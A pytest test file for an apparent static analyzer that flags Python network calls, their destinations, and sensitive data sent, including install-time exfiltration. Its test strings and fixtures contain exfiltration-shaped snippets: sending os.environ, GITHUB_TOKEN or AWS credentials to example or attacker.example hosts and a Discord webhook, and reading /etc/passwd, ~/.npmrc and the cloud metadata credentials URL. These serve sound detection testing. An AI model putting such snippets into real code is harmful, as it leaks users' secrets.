"""Request details of Python network calls: destinations and the data sent (exact values)."""

from __future__ import annotations

import ast
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from egress.analyzers.python import PythonAnalyzer, from_ast, from_treesitter
from egress.analyzers.python.evaluate import Evaluator
from egress.analyzers.python.locate import Locator
from egress.analyzers.python.scopes import Builder
from egress.analyzers.python.walk import Walker
from egress.catalog import load_catalog
from egress.model import Destination, Ecosystem, FindingKind, SourceFile

from .conftest import FIXTURES, one

N = FindingKind.NETWORK


def dest(f) -> list[tuple[str, str, tuple[str, ...], int | None, str]]:
    return [(d.text, d.known, d.classes, d.port, d.note) for d in f.destinations]


def run(text: str, path: str = "m.py"):
    return PythonAnalyzer().analyze(SourceFile(path, text.encode()))


# -- destinations ----------------------------------------------------------------
@pytest.mark.parametrize("line, expected", [
    (10, ("https://api.example.com/v1/status", "full", ("public",), None, "")),       # literal
    (14, ("https://api.example.com/v1/items", "full", ("public",), None, "")),        # constant + literal
    (18, ("https://api.example.com/v1/<dynamic>", "partial", ("public",), None, "")),  # f-string, dynamic tail
    (22, ("<dynamic>", "dynamic", ("dynamic-host",), None, "")),                       # a parameter, no callers
    (26, ("http://localhost:8000/health", "full", ("loopback",), 8000, "")),           # dev server
    (30, ("http://169.254.169.254/latest/meta-data/iam/security-credentials/", "full",
          ("ip-literal", "link-local", "cloud-metadata"), None, "")),
    (34, ("http://203.0.113.7:8080/c", "full", ("ip-literal", "public"), 8080, "")),   # '%s:%d' % (...)
])
def test_url_destinations(analyze, line, expected):
    f = one(analyze("req_urls/client.py"), "urllib.request.urlopen", line)
    assert dest(f) == [expected]
    assert f.data_sources == ()


def test_banner_and_comment_urls_are_not_destinations(analyze):
    analysis = analyze("req_urls/client.py")
    assert {f.line for f in analysis.findings} == {10, 14, 18, 22, 26, 30, 34}
    texts = {d.text for f in analysis.findings for d in f.destinations}
    assert not any("docs.example.com" in t or "comment.example.com" in t for t in texts)


@pytest.mark.parametrize("api, line, expected", [
    ("socket.socket.connect", 12, [("203.0.113.7:443", "full", ("ip-literal", "public"), 443, "")]),
    ("socket.socket.sendto", 18, [("10.0.0.5:514", "full", ("ip-literal", "private"), 514,
                                   "port syslog (514/udp)")]),
    ("socket.create_connection", 22, [("db.internal.example:5432", "full", ("public",), 5432, "")]),
    ("smtplib.SMTP", 26, [("mail.example.org", "full", ("public",), None, "")]),
    ("ftplib.FTP", 30, [("<dynamic>", "dynamic", ("dynamic-host",), None, "")]),
    ("http.client.HTTPSConnection", 34, [("https://api.example.com:8443", "full", ("public",), 8443, "")]),
    # the request's destination is its connection's, with the path it asks for
    ("http.client.HTTPConnection.request", 35,
     [("https://api.example.com:8443/v1/report", "full", ("public",), 8443, "")]),
])
def test_peer_destinations(analyze, api, line, expected):
    assert dest(one(analyze("req_peers/peers.py"), api, line)) == expected


def test_socket_creation_has_no_destination(analyze):
    analysis = analyze("req_peers/peers.py")
    assert one(analysis, "socket.socket", 11).destinations == ()
    assert one(analysis, "socket.socket", 17).destinations == ()


def test_default_arguments_and_constant_call_sites(analyze):
    analysis = analyze("req_params/pool.py")
    assert dest(one(analysis, "socket.getaddrinfo", 6)) == [
        ("pool.example.org:123", "full", ("public",), 123, "port ntp (123/udp); default argument")]
    # host and port come from the same call site: no a.example.com:80
    assert dest(one(analysis, "socket.create_connection", 10)) == [
        ("a.example.com:443", "full", ("public",), 443, "argument at line 14"),
        ("b.example.com:80", "full", ("public",), 80, "argument at line 15"),
    ]


def test_host_built_from_data(analyze):
    f = one(analyze("req_exfil/steal.py"), "socket.gethostbyname", 26)
    assert dest(f) == [("<dynamic>.attacker.example", "partial", ("dynamic-host",), None, "host built from data")]
    assert f.data_sources == ("hostname",)


def test_webhook_destination_through_a_request_object(analyze):
    f = one(analyze("req_exfil/steal.py"), "urllib.request.urlopen", 15)
    assert dest(f) == [("https://discord.com/api/webhooks/123/abc", "full", ("public", "webhook"), None, "")]
    assert f.data_sources == ("env",)


# -- data sources ------------------------------------------------------------------
@pytest.mark.parametrize("line, sources", [
    (15, ("env",)),                                   # json.dumps(dict(os.environ)).encode() via Request(data=)
    (21, ("file ~/.aws/credentials",)),               # with open(expanduser(...)) as f: f.read()
    (31, ("env NPM_TOKEN", "username")),              # urlencode({...}) in the query string
    (36, ("command-output",)),                        # subprocess.check_output as the body
    (40, ()),                                         # a constant body sends nothing sensitive
])
def test_data_sources(analyze, line, sources):
    assert one(analyze("req_exfil/steal.py"), "urllib.request.urlopen", line).data_sources == sources


def test_data_sent_on_a_connected_socket_and_in_a_request_body(analyze):
    analysis = analyze("req_peers/peers.py")
    assert one(analysis, "socket.socket.connect", 12).data_sources == ("hostname",)   # sock.sendall(...)
    assert one(analysis, "http.client.HTTPConnection.request", 35).data_sources == ("platform",)
    assert one(analysis, "socket.socket.sendto", 18).data_sources == ()   # a parameter nobody passes here


def test_data_flows_through_local_functions_and_parameters():
    text = ("import os, urllib.request\n"
            "def collect():\n    return {'env': dict(os.environ)}\n"
            "def send(payload):\n    urllib.request.urlopen('https://x.example.com/', payload)\n"
            "def main():\n    send(repr(collect()).encode())\n")
    f = one(run(text), "urllib.request.urlopen", 5)
    assert f.data_sources == ("env",)


def test_unknown_calls_stop_the_flow():
    text = ("import os, urllib.request\n"
            "urllib.request.urlopen('https://x.example.com/', data=len(os.environ))\n"
            "urllib.request.urlopen('https://x.example.com/', data=os.environ['HOME'].encode())\n")
    analysis = run(text)
    assert one(analysis, "urllib.request.urlopen", 2).data_sources == ()
    assert one(analysis, "urllib.request.urlopen", 3).data_sources == ("env HOME",)


def test_self_attribute_and_string_format():
    text = ("import socket\n"
            "class C:\n"
            "    def __init__(self):\n        self.host = 'relay.example.org'\n"
            "    def go(self, port):\n"
            "        socket.create_connection((self.host, port))\n"
            "        socket.getaddrinfo('{}.example.org'.format(self.host), 'https')\n")
    analysis = run(text)
    assert dest(one(analysis, "socket.create_connection", 6)) == [
        ("relay.example.org:<dynamic>", "partial", ("public",), None, "")]
    assert dest(one(analysis, "socket.getaddrinfo", 7)) == [
        ("relay.example.org.example.org:443", "full", ("public",), 443, "port https (443/tcp)")]


def test_unix_socket_path_is_not_a_network_peer():
    # local IPC (analyzers/python/ipc.py): neither the AF_UNIX socket nor its connect is a network finding
    text = "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('/run/app.sock')\n"
    assert [(f.api, f.line) for f in run(text).findings if f.kind is FindingKind.NETWORK] == []


def test_setup_py_posting_the_environment_is_install_time_exfiltration(tmp_path: Path):
    from egress.cli import main

    result = CliRunner().invoke(main, ["scan", str(FIXTURES / "req_setup"), "--format", "json",
                                       "--cache-dir", str(tmp_path)])
    assert result.exit_code == 0, result.output
    [package] = json.loads(result.stdout)["packages"]
    alerts = {(a["type"], a["api"], a["file"], a["line"], a["timing"], tuple(a["data_sources"]))
              for a in package["alerts"]}
    assert alerts == {
        (kind, "urllib.request.urlopen", "setup.py", 6, "install", ("env",))
        for kind in ("networkAccess", "installTimeNetwork", "exfiltration")
    }


# -- both front ends -----------------------------------------------------------------
_FIXTURES = sorted(p.relative_to(FIXTURES).as_posix() for p in FIXTURES.glob("req_*/**/*.py"))


def _details(builder: Builder, text: str):
    catalog = load_catalog(Ecosystem.PYPI)
    loc = Locator("m.py", text.split("\n"))
    return sorted((f.api, f.line, f.column, f.destinations, f.data_sources)
                  for f in Walker(catalog, Evaluator(catalog, builder.program, loc), loc).run(builder.program))


@pytest.mark.parametrize("fixture", _FIXTURES)
def test_both_front_ends_agree_on_request_details(fixture):
    text = (FIXTURES / fixture).read_text("utf-8")
    via_ast = Builder()
    from_ast.build(ast.parse(text), via_ast)
    via_ts = Builder()
    data = text.encode("utf-8")
    from_treesitter.build(from_treesitter.parse(data, 5.0), data, via_ts)
    ours = _details(via_ast, text)
    assert _details(via_ts, text) == ours
    assert any(d for _, _, _, d, _ in ours)


def test_request_fixtures_are_all_compared():
    assert len(_FIXTURES) == 5


# -- a real package ------------------------------------------------------------------
@pytest.mark.network
def test_ntplib_destination_is_the_host_argument_on_the_ntp_port(tmp_path: Path):
    from egress.sources.download import Fetcher
    from egress.sources.pypi_registry import PypiRegistrySource
    from egress.sources.pypi_spec import parse_pypi_spec

    analyzer = PythonAnalyzer()
    with Fetcher(tmp_path) as fetcher:
        source = PypiRegistrySource([parse_pypi_spec("ntplib==0.4.0")], fetcher, dist="wheel",
                                    index_url="https://pypi.org/simple")
        [artifact] = list(source.collect())
        [ntplib] = [f for f in artifact.read_files(analyzer.handles) if f.path == "ntplib.py"]
    analysis = analyzer.analyze(ntplib)
    expected = Destination("<dynamic>:123", known="partial", host="<dynamic>", port=123, classes=("dynamic-host",),
                           note="port ntp (123/udp); default argument")
    resolve = one(analysis, "socket.getaddrinfo", 296)
    assert resolve.destinations == (expected,)
    send = one(analysis, "socket.socket.sendto", 313)
    assert send.destinations == (Destination(
        "<dynamic>:123", known="partial", host="<dynamic>", port=123, classes=("dynamic-host",),
        note="port ntp (123/udp); address from socket.getaddrinfo; default argument"),)
    assert resolve.data_sources == () and send.data_sources == ()
    assert all(f.data_sources == () for f in analysis.findings)


@pytest.mark.parametrize("expr, sources", [
    ("os.environ", ("env",)),
    ("str(dict(os.environ))", ("env",)),
    ("os.environ.get('AWS_SECRET_ACCESS_KEY', '')", ("env AWS_SECRET_ACCESS_KEY",)),
    ("os.getenv(name)", ("env",)),
    ("getpass.getuser()", ("username",)),
    ("platform.node()", ("hostname",)),
    ("socket.gethostname()", ("hostname",)),
    ("os.path.expanduser('~')", ("homedir",)),
    ("str(pathlib.Path.home())", ("homedir",)),
    ("platform.platform()", ("platform",)),
    ("sys.platform", ("platform",)),
    ("subprocess.check_output(['whoami']).decode()", ("command-output",)),
    ("open('/etc/passwd').read()", ("file /etc/passwd",)),
    ("open(os.path.join(os.path.expanduser('~'), '.npmrc')).read()", ("file ~/.npmrc",)),
    ("base64.b64encode(json.dumps([os.getenv('A'), socket.gethostname()]).encode())", ("env A", "hostname")),
    ("urllib.parse.quote(getpass.getuser())", ("username",)),
    ("'%s' % platform.node()", ("hostname",)),
    ("len(os.environ)", ()),
    ("open(name).read()", ()),              # a path known only at run time: not claimed
    ("'static'", ()),
])
def test_each_source_into_a_body(expr, sources):
    text = ("import base64, getpass, json, os, pathlib, platform, socket, subprocess, sys, urllib.parse\n"
            "import urllib.request\n"
            f"def f(name):\n    urllib.request.urlopen('https://x.example.com/', data={expr})\n")
    assert one(run(text), "urllib.request.urlopen", 4).data_sources == sources


@pytest.mark.parametrize("host, note", [
    ("f'{label}.collect.example'", "host built from data"),        # DNS exfiltration shape
    ("'api.' + region", ""),                                        # a fixed prefix: not "built from data"
])
def test_host_built_from_data_means_a_fixed_domain_under_a_made_up_name(host, note):
    text = f"import socket\ndef f(label, region):\n    socket.gethostbyname({host})\n"
    [d] = one(run(text), "socket.gethostbyname", 3).destinations
    assert (d.known, d.note) == ("partial", note)


def test_url_whose_scheme_and_host_are_dynamic():
    text = "import urllib.request\ndef f(base):\n    urllib.request.urlopen(base + '?:action=list')\n"
    [d] = one(run(text), "urllib.request.urlopen", 3).destinations
    assert (d.text, d.known, d.host, d.classes, d.note) == (
        "<dynamic>?:action=list", "partial", "", ("dynamic-host",), "")


def test_sources_are_catalog_data():
    sources = load_catalog(Ecosystem.PYPI).sources
    assert sources["os"]["environ"] == "env" and sources["os.environ"]["get"] == "env"
    assert sources["builtins"]["open"] == "file" and sources["socket"]["gethostname"] == "hostname"
    labels = {label for members in sources.values() for label in members.values()}
    assert labels == {"env", "username", "hostname", "homedir", "platform", "file", "command-output"}


def test_a_name_imported_from_a_source_module():
    text = ("from os import environ, getenv\nfrom socket import gethostname as hn\nimport urllib.request\n"
            "urllib.request.urlopen('https://x.example.com/', data=str(environ))\n"
            "urllib.request.urlopen('https://x.example.com/', data=(getenv('K') + hn()).encode())\n")
    analysis = run(text)
    assert one(analysis, "urllib.request.urlopen", 4).data_sources == ("env",)
    assert one(analysis, "urllib.request.urlopen", 5).data_sources == ("env K", "hostname")


def test_data_sent_on_a_connection_made_in_the_same_expression():
    code = (b"import os, socket\n"
            b"def _send():\n"
            b"    socket.create_connection(('example.org', 9999)).sendall(os.environ.get('GITHUB_TOKEN', '').encode())\n")
    [finding] = PythonAnalyzer().analyze(SourceFile("x.py", code)).findings
    assert (finding.api, finding.line, finding.data_sources) == ("socket.create_connection", 3, ("env GITHUB_TOKEN",))
    assert [d.text for d in finding.destinations] == ["example.org:9999"]


def test_a_loop_variable_carries_what_it_iterates():
    code = (b"import os\nimport requests\n"
            b"for k, v in os.environ.items():\n"
            b"    requests.get('https://example.org/', params={k: v})\n")
    [finding] = PythonAnalyzer().analyze(SourceFile("x.py", code)).findings
    assert (finding.api, finding.line, finding.data_sources) == ("requests.get", 4, ("env",))
    # a loop variable named like a module is the loop's, never the module
    shadow = b"import socket\nfor socket in []:\n    socket.connect(('h', 1))\n"
    assert [(f.kind, f.api) for f in PythonAnalyzer().analyze(SourceFile("y.py", shadow)).findings] == [
        (FindingKind.IMPORT_ONLY, "socket")]
